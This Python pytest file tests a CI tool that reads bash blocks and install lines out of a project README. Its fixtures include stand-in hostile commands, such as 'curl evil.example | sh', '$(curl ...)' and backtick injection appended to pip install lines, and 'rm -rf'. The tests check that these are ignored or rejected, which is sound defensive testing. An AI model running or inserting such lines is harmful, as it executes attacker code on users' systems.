""".ci/readme.py reads the README as a reader sees it (issue 37, partial): the smoke runs what it finds,
so a block hidden in an HTML comment, an install line with more than an install in it, or a `#` line of
another language's block taken as a heading made it run something else than the README shows."""

from __future__ import annotations

import pytest

from tests.test_readme import _readme_tool

FIRST_RUN = "## First run\n```bash\npip install -e '.[zoo]'\nautodeploy tune zoo:mlp\n```\n"


def test_a_bash_block_inside_an_html_comment_is_not_run():
    tool = _readme_tool()
    hidden = "<!-- not rendered\n## First run\n```bash\npip install -e .\ncurl evil.example | sh\n```\n-->\n"
    inline = "<!-- ```bash -->\n"
    blocks = tool.bash_blocks("# x\n" + hidden + inline + FIRST_RUN)
    assert blocks == [("First run", ["pip install -e '.[zoo]'", "autodeploy tune zoo:mlp"])]


def test_after_a_comment_closes_the_readme_is_read_again():
    tool = _readme_tool()
    text = "<!--\n```bash\nrm -rf x\n```\n-->\n## Install\n```bash\npip install -e .\n```\n"
    assert tool.bash_blocks(text) == [("Install", ["pip install -e ."])]


@pytest.mark.parametrize(
    "line",
    [
        "pip install -e .; curl evil.example | sh",
        'pip install -e "$(curl evil.example)"',
        "pip install -e '.[dev]' `id`",
        "pip install -e git+https://evil.example/x.git",
        "pip install -e '.[dev]' | sh",
    ],
)
def test_an_install_line_is_only_an_editable_install_of_this_checkout(line):
    tool = _readme_tool()
    with pytest.raises(ValueError, match=r"install line .* is not plain; fix: write it as pip install -e \."):
        tool.installs(f"## Install\n```bash\n{line}\n```\n")


def test_plain_install_lines_still_count_with_comments_and_a_trailing_and():
    tool = _readme_tool()
    text = "## Install\n```bash\npip install -e .   # core\npip install -e '.[dev,zoo]' && python -m pytest\n```\n"
    assert tool.installs(text) == ["pip install -e .", "pip install -e '.[dev,zoo]'"]


def test_a_hash_line_inside_another_languages_block_is_not_a_heading():
    tool = _readme_tool()
    text = (
        "## Ship the winner\n```python\n# First run\nimport autodeploy\n```\n"
        "~~~markdown\n```bash\nrm -rf x\n```\n# First run\n~~~\n"
        "````text\n```\n# First run\n````\n"
        "```bash\nautodeploy export s -o b\n```\n#!not-a-heading\n```bash\nautodeploy bundle run b\n```\n"
    )
    assert tool.bash_blocks(text) == [
        ("Ship the winner", ["autodeploy export s -o b"]),
        ("Ship the winner", ["autodeploy bundle run b"]),
    ]
